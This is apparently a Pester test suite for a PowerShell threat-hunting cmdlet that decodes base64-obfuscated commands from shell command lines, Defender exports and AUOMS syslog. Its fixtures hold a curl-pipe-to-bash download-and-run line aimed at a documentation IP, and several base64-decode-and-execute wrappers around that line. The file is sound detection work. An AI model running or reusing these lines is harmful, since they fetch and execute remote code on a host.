BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    function ConvertTo-B64([string] $text) { [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($text)) }
    $script:Hidden = 'curl -s http://203.0.113.7/a.sh | bash'
    $script:Encoded = ConvertTo-B64 $Hidden
    $script:Cmdlet = 'B64Hunt.Commands.GetB64CommandCommand'

    function New-AuomsLine([string] $cmdline, [string] $computer = 'web-01', [int] $serial = 1) {
        "Oct  3 10:15:0$($serial % 10) $computer auoms[811]: type=AUOMS_EXECVE audit(1759486500.$('{0:d3}' -f $serial):$serial): SchemaVersion=`"1`" arch=x86_64 syscall=execve success=yes exit=0 ppid=100 pid=$(200 + $serial) audit_user=alice auid=1000 user=alice uid=1000 comm=`"bash`" exe=`"/usr/bin/bash`" cwd=`"/home/alice`" argc=3 cmdline=`"$cmdline`" redactors= containerid="
    }
}

Describe 'Get-B64Command -CommandLine' {
    It 'decodes a piped command line and says how' {
        $e = "echo $Encoded | base64 -d | bash" | Get-B64Command
        $e | Should -HaveCount 1
        $e.DecodedCommand | Should -BeExactly $Hidden
        $e.EncodedText | Should -BeExactly $Encoded
        @($e.DecodeChain) | Should -Be @('base64')
        $e.Source | Should -Be 'pipeline'
        $e.PSObject.TypeNames[0] | Should -Be 'B64Hunt.Model.CommandEvent'
        $e.Categories.Count | Should -Be 0
    }

    It 'emits nothing for a command line without a payload, and no error' {
        $out = 'ls -la /tmp' | Get-B64Command -ErrorVariable err
        $out | Should -BeNullOrEmpty
        $err | Should -BeNullOrEmpty
    }

    It 'binds Import-Csv rows of a Defender export by property name' {
        $csv = Join-Path $TestDrive 'dpe.csv'
        [pscustomobject]@{ Timestamp = '2026-10-03T10:15:00Z'; DeviceName = 'db-02.contoso.local'; AccountName = 'root'; ProcessCommandLine = "sh -c `"echo $Encoded|base64 --decode|sh`"" } |
            Export-Csv $csv -NoTypeInformation
        $e = Import-Csv $csv | Get-B64Command
        $e.DecodedCommand | Should -BeExactly $Hidden
        $e.Computer | Should -Be 'db-02.contoso.local'
        $e.Account | Should -Be 'root'
        $e.TimeGenerated | Should -Be ([datetime]::new(2026, 10, 3, 10, 15, 0, [DateTimeKind]::Utc))
        $e.TimeGenerated.Kind | Should -Be 'Utc'
    }

    It 'reports a time it cannot read and still emits the event' {
        $e = [pscustomobject]@{ CommandLine = "echo $Encoded | base64 -d | sh"; TimeGenerated = 'not a time' } |
            Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
        $e.DecodedCommand | Should -BeExactly $Hidden
        $e.TimeGenerated | Should -BeNullOrEmpty
        $err[0].FullyQualifiedErrorId | Should -Be "InvalidTimeGenerated,$Cmdlet"
    }
}

Describe 'Get-B64Command -Path' {
    BeforeAll {
        $script:Log = Join-Path $TestDrive 'syslog'
        @(
            (New-AuomsLine "bash -c `"{echo,$Encoded}|{base64,-d}|{bash,-i}`"" 'web-01' 1)
            (New-AuomsLine 'ls -la /tmp' 'web-02' 2)
            'Oct  3 10:15:09 web-03 auoms[811]: type=AUOMS_EXECVE audit(1759486509.000:9): SchemaVersion="1" arch=x86_64'
            'Oct  3 10:15:10 web-03 sshd[99]: Accepted publickey for alice from 192.0.2.1 port 50000 ssh2'
        ) | Set-Content -Path $Log
    }

    It 'reads an AUOMS syslog file: the event carries host, account, time and file:line' {
        $e = Get-B64Command -Path $Log -ErrorAction SilentlyContinue
        $e | Should -HaveCount 1
        $e.DecodedCommand | Should -BeExactly $Hidden
        $e.Computer | Should -Be 'web-01'
        $e.Account | Should -Be 'alice'
        $e.Source | Should -Be "$($Log):1"
        $e.TimeGenerated | Should -Be ([DateTimeOffset]::FromUnixTimeMilliseconds(1759486500001).UtcDateTime)
        $e.CommandLine | Should -BeLike 'bash -c "{echo,*}|{base64,-d}|{bash,-i}"'
    }

    It 'reports the malformed record with a stable id and its file:line, and goes on' {
        $e = Get-B64Command -Path $Log -ErrorVariable err -ErrorAction SilentlyContinue
        $e | Should -HaveCount 1
        $err | Should -HaveCount 1
        $err[0].FullyQualifiedErrorId | Should -Be "MalformedAuomsRecord,$Cmdlet"
        $err[0].TargetObject | Should -Be "$($Log):3"
    }

    It 'reads gzip-compressed rotated logs the same way' {
        $gz = Join-Path $TestDrive 'syslog.1.gz'
        $in = [IO.File]::OpenRead($Log); $out = [IO.File]::Create($gz)
        $zip = [IO.Compression.GZipStream]::new($out, [IO.Compression.CompressionMode]::Compress)
        $in.CopyTo($zip); $zip.Dispose(); $in.Dispose()
        $e = Get-B64Command -Path $gz -ErrorAction SilentlyContinue
        $e.DecodedCommand | Should -BeExactly $Hidden
        $e.Source | Should -Be "$($gz):1"
    }

    It 'expands wildcards, reports a missing path and goes on with the others' {
        $missing = Join-Path $TestDrive 'nope.log'
        $e = Get-B64Command -Path $missing, (Join-Path $TestDrive 'sys*g') -ErrorVariable err -ErrorAction SilentlyContinue
        $e | Should -HaveCount 1
        ($err | Where-Object FullyQualifiedErrorId -eq "PathNotFound,$Cmdlet").TargetObject | Should -Be $missing
    }

    It 'takes files from Get-ChildItem through -LiteralPath' {
        $e = Get-ChildItem $Log | Get-B64Command -ErrorAction SilentlyContinue
        $e.DecodedCommand | Should -BeExactly $Hidden
    }

    It 'tells with -Verbose how many lines it read, skipped and decoded' {
        $verbose = Get-B64Command -Path $Log -Verbose -ErrorAction SilentlyContinue 4>&1 | Where-Object { $_ -is [System.Management.Automation.VerboseRecord] }
        ($verbose.Message -join "`n") | Should -Match 'Read 4 lines'
        ($verbose.Message -join "`n") | Should -Match '1 payloads'
    }

    It 'survives binary garbage and a 10 MB line' {
        $bad = Join-Path $TestDrive 'garbage.log'
        $rng = [Random]::new(7); $bytes = [byte[]]::new(200000); $rng.NextBytes($bytes)
        $stream = [IO.File]::Create($bad)
        $stream.Write($bytes, 0, $bytes.Length)
        $long = [Text.Encoding]::ASCII.GetBytes("`n" + ('A' * 10MB) + "`n" + (New-AuomsLine "echo $Encoded | base64 -d | sh" 'web-09' 5) + "`n")
        $stream.Write($long, 0, $long.Length); $stream.Dispose()
        $e = Get-B64Command -Path $bad -ErrorAction SilentlyContinue
        $e.DecodedCommand | Should -Contain $Hidden
    }
}

Describe 'Get-B64Command -Sample' {
    It 'hunts the bundled sample: dozens of distinct decoded commands over many hosts' {
        $events = Get-B64Command -Sample -ErrorAction SilentlyContinue
        ($events.DecodedCommand | Sort-Object -Unique).Count | Should -BeGreaterOrEqual 24
        ($events.Computer | Sort-Object -Unique).Count | Should -BeGreaterOrEqual 10
        $events | Where-Object { $_.DecodeChain -contains 'gzip' } | Should -Not -BeNullOrEmpty
        $events | Where-Object Depth -ge 1 | Should -Not -BeNullOrEmpty
    }
}

Describe 'Get-B64Command help' {
    It 'has a synopsis, examples and every parameter documented' {
        $help = Get-Help Get-B64Command -Full
        $help.Synopsis | Should -Match 'base64'
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
        foreach ($p in $help.Parameters.Parameter) { ($p.Description.Text -join '') | Should -Not -BeNullOrEmpty -Because "-$($p.Name) needs a description" }
    }
}
